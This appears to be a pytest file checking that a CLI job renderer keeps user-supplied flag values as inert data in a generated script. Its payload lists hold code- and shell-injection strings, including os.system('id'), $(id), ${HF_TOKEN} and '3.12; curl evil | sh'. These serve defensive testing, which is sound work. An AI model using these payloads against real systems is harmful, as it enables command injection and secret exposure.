"""Every value a user gives ``bakeoff jobs export|qualify`` is data in the rendered script, never source.

Each flag that reaches the script (or the job's command line) is given quoting payloads: triple
quotes that would close a docstring, quotes, backslashes, newlines, a second PEP 723 block,
shell syntax, a value the redaction patterns match. Either the flag is refused in one line
(exit 2, nothing written) or the script parses to the same statements as with a benign value
(:func:`shape`: the AST with every constant's value blanked), its PEP 723 block is intact (one
block, the same dependencies), and the ``TASK`` literal holds the payload as given.
"""

from __future__ import annotations

import ast
import re
import shlex
import tomllib
from pathlib import Path

import pytest

from cli.jobs import render, submit
from cli.jobs.specs import ExportTask, JobRequest, JobTask, PushTarget, QualifyTask
from cli.main import main

PAYLOADS = [
    '"""; import os; os.system("id"); """',
    "'''; import os; os.system('id'); '''",
    "'; import os; os.system('id'); '",
    '"; import os; os.system("id"); "',
    "x\\",
    'x\\"; import os #',
    "a\nimport os\nos.system('id')",
    "a\r\nimport os",
    "\n# ///\nimport os\n# /// script\n# dependencies = ['evil']\n# ///",
    "# /// script",
    "x\u2028import os",
    "}; import os; x = {",
    "$(id) `id` ${HF_TOKEN}",
    "authorization=x\\'; import os; os.system('id'); x=\\'",
    "Authorization: Bearer abc\"; import os; \"",
    "%(model)s {task} {{}}",
    "x" * 300 + '"""; import os',
]
# PEP 723's reference expression for metadata blocks
BLOCK = re.compile(r"(?m)^# /// (?P<type>[a-zA-Z0-9-]+)$\s(?P<content>(^#(| .*)$\s)+)^# ///$")


def shape(script: str) -> str:
    """The script's statements with every constant blanked: equal for two scripts that differ
    only in the data they hold (an injected statement, name or call changes it)."""
    tree = ast.parse(script)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant):
            node.value = None
    return ast.dump(tree)


def same_statements(script: str, benign: str) -> bool:
    """``script`` has the statements of ``benign``, or of its base64 form (the renderer's form when
    a value holds text the redaction of secrets would reach into): data only, either way."""
    return shape(script) in (shape(benign), shape(_as_encoded(benign)))


def _as_encoded(benign: str) -> str:
    task = task_of(benign)
    head = benign[:benign.index('"""bakeoff job')]
    return head + render._body(JobTask.model_validate(task), task, readable=False)


def metadata(script: str) -> dict:
    blocks = [m for m in BLOCK.finditer(script) if m.group("type") == "script"]
    assert len(blocks) == 1, f"{len(blocks)} script blocks"
    content = "".join(line[2:] if line.startswith("# ") else line[1:]
                      for line in blocks[0].group("content").splitlines(keepends=True))
    return tomllib.loads(content)


def task_of(script: str) -> dict:
    """The script's ``TASK``: its literal, or its base64 JSON decoded (never executed)."""
    import base64
    import json

    tree = ast.parse(script)
    (value,) = [n.value for n in tree.body if isinstance(n, ast.Assign) and n.targets[0].id == "TASK"]
    if isinstance(value, ast.Call):  # json.loads(base64.b64decode('...'))
        return json.loads(base64.b64decode(value.args[0].args[0].value))
    return ast.literal_eval(value)


def _export(model="org/m", push="none", path_in_repo="", options=None) -> JobTask:
    return JobTask(kind="export", tag="t", model=model, push_to=PushTarget.parse(push), path_in_repo=path_in_repo,
                   export=ExportTask(pipeline="ort-genai", options=options or {}))


BENIGN = render.render_script(_export())


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("where", ["model", "path_in_repo", "option value", "option key", "push folder",
                                   "qualify model", "backend opt", "reference model"])
def test_render_keeps_every_value_data(payload, where):
    """The renderer itself, below any flag's validation: whatever a task holds stays data."""
    if where.startswith("qualify") or where in ("backend opt", "reference model"):
        q = QualifyTask(backends=["vllm"], backend_opts=[payload] if where == "backend opt" else [],
                        reference_model=payload if where == "reference model" else None)
        task = JobTask(kind="qualify", tag="t", model=payload if where == "qualify model" else "org/m",
                       qualify=q, push_to=PushTarget(kind="none"))
        benign = render.render_script(JobTask(kind="qualify", tag="t", model="org/m", push_to=PushTarget(kind="none"),
                                              qualify=QualifyTask(backends=["vllm"], backend_opts=["x"] if where == "backend opt" else [],
                                                                  reference_model="x" if where == "reference model" else None)))
    else:
        task = _export(model=payload if where == "model" else "org/m",
                       path_in_repo=payload if where == "path_in_repo" else "",
                       options={"extra_options": {"k": payload}} if where == "option value"
                       else {"extra_options": {payload: "v"}} if where == "option key" else None)
        if where == "push folder":
            task = task.model_copy(update={"push_to": PushTarget(kind="file", folder="/" + payload)})
        benign = render.render_script(_export(
            options={"extra_options": {"k": "v"}} if where.startswith("option") else None,
            path_in_repo="x" if where == "path_in_repo" else "",
            push="file:///x" if where == "push folder" else "none"))
    script = render.render_script(task)
    assert same_statements(script, benign), script
    assert metadata(script)["dependencies"] == metadata(benign)["dependencies"]
    assert task_of(script) == render._redacted(task.model_dump(mode="json"))  # as given (secrets masked), as data


@pytest.fixture
def fixed_tag(monkeypatch):
    monkeypatch.setattr(submit, "new_tag", lambda: "20260101T000000Z-abcd")


def _script(capsys, tmp_path, argv: list[str]) -> tuple[int, str, str]:
    """Run ``bakeoff jobs ...`` in-process with --save-script; (exit code, script or "", stderr)."""
    out = tmp_path / f"s{len(list(tmp_path.iterdir()))}.py"
    code = main([*argv, "--dry-run", "--save-script", str(out)])
    err = capsys.readouterr().err
    return code, out.read_text() if out.exists() else "", err


# (flag, how the payload is given, the benign value): every flag that reaches the script or the job
FLAGS = [
    (["jobs", "export", "ort-genai"], "--model", "{}", "org/m"),
    (["jobs", "qualify", "--backends", "vllm"], "--model", "{}", "org/m"),
    (["jobs", "qualify", "--backends", "vllm"], "--reference-model", "{}", "org/ref"),
    (["jobs", "qualify", "--backends", "vllm"], "--backend-opt", "attention_backend={}", "attention_backend=X"),
    (["jobs", "qualify", "--backends", "vllm"], "--backend-opt", "extra_args={}", "extra_args=--x"),
    (["jobs", "export", "ort-genai"], "--extra-option", "k={}", "k=v"),
    (["jobs", "export", "ort-genai"], "--extra-option", "{}=v", "k=v"),
    (["jobs", "export", "ort-genai"], "--path-in-repo", "{}", "runs/a"),
    (["jobs", "export", "ort-genai"], "--push-to", "file:///{}", "file:///x"),
    (["jobs", "export", "ort-genai"], "--bakeoff-spec", "git+https://example.com/b.git@{}", "git+https://example.com/b.git@v1"),
    (["jobs", "export", "ort-genai"], "--bakeoff-spec", "{}", "==0.1.0"),
    (["jobs", "export", "ort-genai"], "--label", "k={}", "k=v"),
    (["jobs", "export", "ort-genai"], "--label", "{}=v", "k=v"),
    (["jobs", "export", "ort-genai"], "--env", "K={}", "K=v"),
    (["jobs", "export", "ort-genai"], "--env", "{}=v", "K=v"),
    (["jobs", "export", "ort-genai"], "--image", "{}", "ghcr.io/astral-sh/uv:python3.12-bookworm"),
    (["jobs", "export", "ort-genai"], "--python", "{}", "3.12"),
    (["jobs", "export", "ort-genai"], "--namespace", "{}", "me"),
    (["jobs", "export", "ort-genai"], "--timeout", "{}", "2h"),
    (["jobs", "export", "ort-genai"], "--secret", "{}", "HF_TOKEN"),
    (["jobs", "qualify", "--backends", "vllm"], "--flavors", "{}", "cpu-xl"),
]


@pytest.mark.parametrize("payload", PAYLOADS[:14])
@pytest.mark.parametrize("base, flag, form, benign", FLAGS, ids=[f"{b[1]} {f} {v}" for b, f, v, _ in FLAGS])
def test_every_flag_is_refused_or_data(capsys, tmp_path, fixed_tag, base, flag, form, benign, payload):
    value = form.format(payload) if "{}" in form else payload
    code, script, err = _script(capsys, tmp_path, [*base, flag, value])
    if code == 2:  # refused: one line, nothing saved
        lines = [ln for ln in err.splitlines() if ln.strip()]
        assert len(lines) == 1 and lines[0].startswith("bakeoff"), err
        assert not script
        return
    assert code == 0, err
    ok_code, ok_script, ok_err = _script(capsys, tmp_path, [*base, flag, benign])
    assert ok_code == 0, ok_err
    assert same_statements(script, ok_script), script
    assert metadata(script).get("requires-python") == metadata(ok_script).get("requires-python")
    assert len(metadata(script)["dependencies"]) == len(metadata(ok_script)["dependencies"])


@pytest.mark.parametrize("payload", ["3.12; curl evil | sh", "3.12 --with evil", "$(id)", "3.12\nid", "'3.12'"])
def test_the_python_request_never_reaches_the_jobs_shell_as_syntax(payload):
    """``--python`` is the one value on the job's ``sh -c`` line: refused unless it is a version,
    and quoted as one word whatever it is."""
    with pytest.raises(ValueError):
        JobRequest(python=payload)
    _script_, args, _env = submit.launch_args("print(1)", payload)
    words = shlex.split(args[1])
    assert words[words.index("--python") + 1] == payload


def test_the_qualify_job_passes_values_as_flag_values(monkeypatch):
    """Inside the job, a model or option that starts with a dash is the flag's value (--flag=value)."""
    from cli.jobs import runtime

    calls = []
    task = JobTask(kind="qualify", tag="t", model="--backends=evil", push_to=PushTarget(kind="none"),
                   qualify=QualifyTask(backends=["vllm"], backend_opts=["--frob"], reference_model="-x"))

    class Done(Exception):
        pass

    def fake_run(cmd, **kw):
        calls.append(cmd)
        raise Done

    monkeypatch.setattr(runtime.subprocess, "run", fake_run)
    with pytest.raises(Done):
        runtime._qualify(task, Path("/nonexistent-out"))
    cmd = calls[0]
    assert "--model=--backends=evil" in cmd and "--backend-opt=--frob" in cmd and "--reference-model=-x" in cmd
    assert "--backends=vllm" in cmd and not any(a == "--model" for a in cmd)


def test_a_secret_value_in_the_environment_never_mangles_the_script(monkeypatch):
    """Values are redacted as data before they become text, and the script is redaction-stable."""
    from bakeoff.host.redact import redact

    monkeypatch.setenv("MY_API_KEY", "s3cr3t-value")
    script = render.render_script(_export(model="org/s3cr3t-value", path_in_repo="a'authorization=b\\'"))
    assert "s3cr3t-value" not in script and redact(script) == script
    assert shape(script) == shape(render.render_script(_export(path_in_repo="x")))
